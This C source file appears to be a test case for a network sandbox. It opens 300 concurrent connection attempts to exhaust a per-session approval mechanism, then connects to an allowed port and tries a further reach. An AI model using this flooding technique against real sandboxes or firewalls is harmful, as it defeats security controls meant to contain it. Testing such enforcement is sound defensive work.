// Questions by the hundred, so that the session might give up on one.
#include "attack.h"

static void *ask(void *port) {
    struct sockaddr_in a = in4((int)(long)port);
    connect(socket(AF_INET, SOCK_STREAM, 0), SA(&a), sizeof a);
    return NULL;
}

int main(int argc, char **argv) {
    begin(argc, argv);
    pthread_t thread;
    pthread_attr_t small;
    pthread_attr_init(&small);
    pthread_attr_setstacksize(&small, 1 << 16);
    for (int i = 0; i < 300; i++) pthread_create(&thread, &small, ask, (void *)(long)(1 + i));
    usleep(300000);
    // Others are decided meanwhile.
    struct sockaddr_in a = in4(good);
    int fd = must(socket(AF_INET, SOCK_STREAM, 0));
    must(connect(fd, SA(&a), sizeof a));
    write_token(fd);
    close(fd);
    reach(SOCK_STREAM, 0);
    return 0;
}
